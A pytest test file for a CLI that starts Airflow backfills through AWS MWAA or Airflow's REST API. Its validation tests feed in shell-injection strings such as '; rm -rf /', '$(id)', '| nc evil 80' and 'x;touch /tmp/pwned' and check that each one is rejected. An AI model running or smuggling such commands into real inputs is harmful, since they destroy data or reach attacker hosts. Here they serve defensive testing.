"""`python -m dags.backfill`: same validation as the DAG, exit 2 before any request, exact MWAA call."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import boto3
import pytest
from botocore.stub import Stubber

from tests.dags.backfill_support import (
    CREATED_AT,
    EXPECTED_BODY,
    HOURS,
    PROBE_DAG_ID,
    RecordingApi,
    backfill_run,
    write_exports_file,
)
from timestream_pipeline.backfill_cli import EXIT_FAILED, EXIT_INVALID, EXIT_OK, parse_args, run
from timestream_pipeline.backfill_transport import MwaaTransport

REPO_ROOT = Path(__file__).resolve().parents[2]
ENVIRONMENT = "pipeline-airflow"
RUNS = [backfill_run(hour, "success") for hour in HOURS]


@pytest.fixture
def exports_file(tmp_path: Path) -> Path:
    return write_exports_file(tmp_path)


def argv(exports_file: Path, *extra: str, **fields: str) -> list[str]:
    values = {
        "dag-id": PROBE_DAG_ID,
        "from-date": "2026-11-01T00:00:00Z",
        "to-date": "2026-11-01T05:00:00Z",
        **{key.replace("_", "-"): value for key, value in fields.items()},
    }
    return [part for key, value in values.items() for part in (f"--{key}", value)] + [
        "--exports-file",
        str(exports_file),
        *extra,
    ]


class NoTransport:
    """A transport factory that fails the test if the CLI ever tries to build a transport."""

    calls = 0

    def __call__(self, args: object) -> None:
        self.calls += 1
        raise AssertionError("a request was about to be made")


@pytest.mark.parametrize(
    "fields",
    [
        {"dag_id": f"{PROBE_DAG_ID}; rm -rf /"},
        {"from_date": "$(id)"},
        {"to_date": "2026-11-01T05:00:00Z | nc evil 80"},
        {"reprocess_behavior": "failed`id`"},
        {"max_active_runs": "4 && reboot"},
        {"dag_id": "timestream_export_unknown"},
        {"to_date": "2026-11-01T00:00:00Z"},
        {"to_date": "2027-01-01T00:00:00Z"},
    ],
    ids=["dag_id", "from_date", "to_date", "reprocess", "max_runs", "unknown_dag", "equal", "span"],
)
def test_invalid_arguments_exit_2_before_any_request(
    exports_file: Path, fields: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """A bad argument ends with a message on stderr and exit 2; no transport is even built."""
    # GIVEN arguments with one bad field and a factory that must not be called
    factory = NoTransport()
    # WHEN the CLI runs
    code = run(parse_args(argv(exports_file, "--environment", ENVIRONMENT, **fields)), factory)
    # THEN exit 2, a message naming the field, and no transport
    assert code == EXIT_INVALID and factory.calls == 0
    assert capsys.readouterr().err.startswith("error: invalid backfill request")


def test_a_valid_request_calls_mwaa_invoke_rest_api_exactly(
    exports_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With --environment, the caller's boto3 'mwaa' client sends the exact POST /backfills."""
    # GIVEN a stubbed boto3 mwaa client expecting the create and the runs listing
    client = boto3.client("mwaa", region_name="us-east-1")
    stubber = Stubber(client)
    stubber.add_response(
        "invoke_rest_api",
        {"RestApiStatusCode": 200, "RestApiResponse": {"id": 11}},
        {
            "Name": ENVIRONMENT,
            "Path": "/backfills",
            "Method": "POST",
            "Body": EXPECTED_BODY,
            "QueryParameters": {},
        },
    )
    stubber.add_response(
        "invoke_rest_api",
        {"RestApiStatusCode": 200, "RestApiResponse": {"dag_runs": RUNS, "total_entries": 6}},
    )
    # WHEN the CLI runs
    with stubber:
        code = run(
            parse_args(argv(exports_file, "--environment", ENVIRONMENT)),
            lambda args: MwaaTransport.from_boto3_client(client, args.environment),
        )
        stubber.assert_no_pending_responses()
    # THEN exit 0 and the backfill id and its runs are printed
    out = capsys.readouterr().out
    assert code == EXIT_OK
    assert f"backfill 11 of {PROBE_DAG_ID}" in out and "6 run(s)" in out and HOURS[-1] in out


def test_airflow_url_dry_run_prints_the_planned_runs(
    exports_file: Path, api: RecordingApi, capsys: pytest.CaptureFixture[str]
) -> None:
    """With --airflow-url and --token, a dry run posts to /api/v2/backfills/dry_run and lists the hours."""
    # GIVEN the recording API WHEN a dry run is requested through the real transport factory
    code = run(parse_args(argv(exports_file, "--airflow-url", api.url, "--token", "t", "--dry-run")))
    # THEN one dry-run request and the planned hours printed
    assert code == EXIT_OK
    assert [(r.method, r.path, r.body) for r in api.requests] == [
        ("POST", "/api/v2/backfills/dry_run", EXPECTED_BODY)
    ]
    assert "dry run" in capsys.readouterr().out


def test_wait_exits_1_when_a_run_failed(
    exports_file: Path, api: RecordingApi, capsys: pytest.CaptureFixture[str]
) -> None:
    """--wait polls until the backfill completes and exits 1 if any of its runs failed."""
    # GIVEN a backfill that completes with a failed run
    api.backfill = {"id": 7, "created_at": CREATED_AT, "completed_at": "2026-11-02T09:00:00Z"}
    api.runs = [*RUNS[:5], {**RUNS[5], "state": "failed"}]
    # WHEN the CLI creates it and waits
    code = run(parse_args(argv(exports_file, "--airflow-url", api.url, "--token", "t", "--wait")))
    # THEN exit 1 and the failed hour is named
    assert code == EXIT_FAILED
    assert f"failed: {HOURS[5]}" in capsys.readouterr().out


def test_an_api_refusal_exits_1_with_airflow_reason(
    exports_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Airflow's refusal (through MWAA) is printed as a one-line error, not a traceback."""
    # GIVEN MWAA relaying Airflow's 404
    client = boto3.client("mwaa", region_name="us-east-1")
    stubber = Stubber(client)
    stubber.add_client_error(
        "invoke_rest_api",
        service_error_code="RestApiClientException",
        modeled_fields={"RestApiStatusCode": 404, "RestApiResponse": {"detail": "Could not find dag"}},
    )
    # WHEN the CLI runs
    with stubber:
        code = run(
            parse_args(argv(exports_file, "--environment", ENVIRONMENT)),
            lambda args: MwaaTransport.from_boto3_client(client, args.environment),
        )
    # THEN exit 1 with Airflow's reason
    assert code == EXIT_FAILED
    assert "failed with 404: {'detail': 'Could not find dag'}" in capsys.readouterr().err


def test_the_module_entry_point_refuses_a_shell_payload(exports_file: Path) -> None:
    """`python -m dags.backfill` itself: a payload in --dag-id exits 2 with a message, no traceback."""
    # GIVEN the real entry point WHEN run with a malicious dag id
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "dags.backfill",
            *argv(exports_file, "--environment", ENVIRONMENT, dag_id="x;touch /tmp/pwned"),
        ],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    # THEN exit 2, the field named, no traceback
    assert result.returncode == EXIT_INVALID
    assert "dag_id: 'x;touch /tmp/pwned' is not a valid DAG id" in result.stderr
    assert "Traceback" not in result.stderr


def test_no_target_is_a_usage_error(exports_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Valid arguments but neither --environment nor --airflow-url: exit 2 with what to pass."""
    # GIVEN no MWAA environment (explicitly empty) and no URL WHEN the CLI runs
    code = run(parse_args(argv(exports_file, "--environment", "")))
    # THEN exit 2 naming both options
    assert code == EXIT_INVALID
    assert "pass --environment <MWAA environment> or --airflow-url" in capsys.readouterr().err
